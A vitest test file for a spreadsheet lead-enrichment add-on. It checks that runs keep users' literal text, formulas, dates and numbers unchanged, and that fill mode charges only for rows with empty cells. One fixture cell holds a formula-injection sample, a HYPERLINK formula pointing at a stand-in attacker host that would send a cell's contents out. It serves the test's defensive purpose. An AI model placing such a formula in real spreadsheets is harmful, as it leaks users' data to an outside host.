/**
 * QA defect 1 (critical): a run must never rewrite cells it does not change. Sheets' getValues
 * drops the apostrophe that keeps `'=1+1` text, so a cell written back "as read" turns the user's
 * text into a live formula. Here the user's literals sit in rows the run gets no lead for (blank
 * URL, not a URL, not found) and in filled cells of fill mode; they must keep their exact input
 * (what the formula bar shows) through both modes. Also defect 3: fill mode fetches and charges
 * only the URLs of rows with an empty chosen cell, and a run with nothing empty costs nothing.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { manualClock } from "../../sandbox/gas/clock";
import type { EnrichEstimate, EnrichProgress, EnrichRequest } from "../../src/rpc/enrich";
import { driveSteps, type EnrichWorld, rpcValue, SHEET, startEnrichWorld } from "../jobs/enrich-world";

const FIELDS = ["full_name", "job_title", "company_name", "location"] as const;
const request = (mode: "fill" | "refresh"): EnrichRequest => ({
  options: { fields: [...FIELDS], extras: { up_to_the_second_fresh: true }, mode },
});
const NOT_FOUND = "https://www.network.example/in/nobody-at-all-zz9999";
/** Columns A:E = Profile URL, Title, Company, Location, Notes; the run appends full_name and statuses. */
const LAST_ROW = 9;

let world: EnrichWorld;
let urls: string[];

function input(a1: string): string {
  return world.runtime.getCell(SHEET, a1).input;
}

function inputs(a1Cells: readonly string[]): Record<string, string> {
  return Object.fromEntries(a1Cells.map((a1) => [a1, input(a1)]));
}

function typeCells(cells: Record<string, string>): void {
  for (const [a1, text] of Object.entries(cells)) world.runtime.setCell(SHEET, a1, text);
}

function run(mode: "fill" | "refresh"): { estimate: EnrichEstimate; end: EnrichProgress } {
  world.runtime.select(SHEET, `A1:A${LAST_ROW}`);
  const estimate = rpcValue<EnrichEstimate>(world.runtime, "enrichEstimate", request(mode));
  rpcValue<EnrichProgress>(world.runtime, "enrichConfirm", { jobId: estimate.progress.jobId });
  return { estimate, end: driveSteps(world.runtime, estimate.progress.jobId) };
}

/** The user's literal texts, a formula, a date and a number, in rows that get no lead data. */
const UNTOUCHED_ROWS: Record<string, string> = {
  // row 4: no URL
  B4: "'+1 555 0100",
  C4: "'00123",
  D4: "'=1+1",
  // row 5: not a URL
  B5: "=1+2",
  C5: "2024-01-15",
  D5: "42",
  // row 6: a well-formed URL of nobody (404, free)
  B6: "'-2+3",
  C6: "'@home",
  D6: `'=HYPERLINK("http://evil.example/?x="&A1,"x")`,
};
/** Notes (column E) is no target: never written, whatever the row. */
const NOTES: Record<string, string> = { E2: "'=1+1", E3: "=LEN(A3)", E7: "'+SUM(A1:A9)", E8: "2024-03-01" };

beforeAll(async () => {
  world = await startEnrichWorld({
    rows: [],
    userProperties: { CHUNK_SIZE: "40", SPEND_CAP: "5000" },
    clock: manualClock(Date.UTC(2026, 10, 21, 9, 0, 0)),
  });
  urls = await world.control.sampleUrls(5, 40);
});

afterAll(async () => {
  await world?.close();
});

beforeEach(async () => {
  await world.control.reset();
  world.runtime.properties.document.clear();
  world.runtime.setValues(SHEET, "A1", [
    ["Profile URL", "Title", "Company", "Location", "Notes"],
    [urls[0]!, "Old title", "Old Co", "", ""],
    [urls[1]!, "", "", "", ""],
    ["", "", "", "", ""],
    ["not a url", "", "", "", ""],
    [NOT_FOUND, "", "", "", ""],
    [urls[2]!, "", "", "", ""],
    [urls[3]!, "", "", "", ""],
    [urls[0]!, "", "", "", ""],
  ]);
  typeCells({ ...UNTOUCHED_ROWS, ...NOTES });
});

describe("enrichment never rewrites cells it does not change", () => {
  it("refresh keeps the user's literals, formulas, dates and numbers in rows without lead data", () => {
    const before = inputs([...Object.keys(UNTOUCHED_ROWS), ...Object.keys(NOTES)]);
    expect(before).toMatchObject({ B4: "'+1 555 0100", C4: "'00123", D4: "'=1+1", B5: "=1+2" });
    const { end } = run("refresh");
    expect(end).toMatchObject({ state: "done", ok: 4, notFound: 1 });
    expect(inputs(Object.keys(before))).toEqual(before);
    expect(world.runtime.getFormulas(SHEET, "B4:D6")).toEqual([
      ["", "", ""],
      ["=1+2", "", ""],
      ["", "", ""],
    ]);
  });

  it("fill mode keeps every non-empty cell as typed, including API text written by an earlier run", async () => {
    run("refresh");
    // The user edits: literal texts in filled cells, and four cells cleared for the fill run.
    const header = world.runtime.getValues(SHEET, "A1:N1")[0]!.map(String);
    const fullName = String.fromCharCode(65 + header.indexOf("Full Name"));
    // Row 6 (not found) gets a name by hand: nothing of it is empty, so its URL is not fetched.
    typeCells({ B2: "'=1+1", C3: "'+Engineering Director", B7: "'-2+3", [`${fullName}6`]: "'=x" });
    for (const a1 of ["D2", "D3", "D7", "C8"]) world.runtime.setCell(SHEET, a1, "");
    const lastColumn = String.fromCharCode(64 + header.filter((h) => h !== "").length);
    const cells: string[] = [];
    for (let row = 2; row <= LAST_ROW; row += 1) {
      for (let c = 0; c < lastColumn.charCodeAt(0) - 64; c += 1)
        cells.push(`${String.fromCharCode(65 + c)}${row}`);
    }
    const statusColumns = ["Enrichment Status", "Enriched At", "Job Changed", "Previous Job"].map((name) =>
      String.fromCharCode(65 + header.indexOf(name)),
    );
    const cleared = new Set(["D2", "D3", "D7", "C8"]);
    const kept = cells.filter((a1) => !cleared.has(a1) && !statusColumns.includes(a1.replace(/\d+/, "")));
    const before = inputs(kept);
    expect(before).toMatchObject({ B2: "'=1+1", C3: "'+Engineering Director", B7: "'-2+3", D4: "'=1+1" });

    await world.control.reset();
    const { estimate, end } = run("fill");
    // Rows 2, 3, 7, 8 have an empty cell (row 9 repeats row 2's URL); row 6 is full: 4 to fetch.
    expect(estimate.preview.toFetch).toBe(4);
    expect(end).toMatchObject({ state: "done", ok: 4, skipped: 1 });
    expect(inputs(kept)).toEqual(before);
    for (const a1 of cleared) expect(input(a1), a1).not.toBe("");
    expect((await world.control.stats()).creditsCharged).toBe(4);
  });

  it("a fill run with nothing empty fetches nothing and costs 0", async () => {
    run("refresh");
    // The rows that get no lead data are filled by hand, so no chosen cell is empty.
    const fullName = String.fromCharCode(
      65 + world.runtime.getValues(SHEET, "A1:N1")[0]!.map(String).indexOf("Full Name"),
    );
    typeCells({ [`${fullName}4`]: "x", [`${fullName}5`]: "x", [`${fullName}6`]: "x", D5: "x" });
    for (let row = 2; row <= LAST_ROW; row += 1) {
      for (const column of ["B", "C", "D", fullName]) {
        if (input(`${column}${row}`) === "") world.runtime.setCell(SHEET, `${column}${row}`, "filled");
      }
    }
    await world.control.reset();
    const { estimate, end } = run("fill");
    expect(estimate.preview).toMatchObject({ toFetch: 0, maxCredits: 0 });
    expect(end).toMatchObject({ state: "done", ok: 0, spent: 0, skipped: 5 });
    const stats = await world.control.stats();
    expect(stats.creditsCharged).toBe(0);
    expect(stats.requests["/api/network/leads/by_link/"] ?? 0).toBe(0);
  });
});
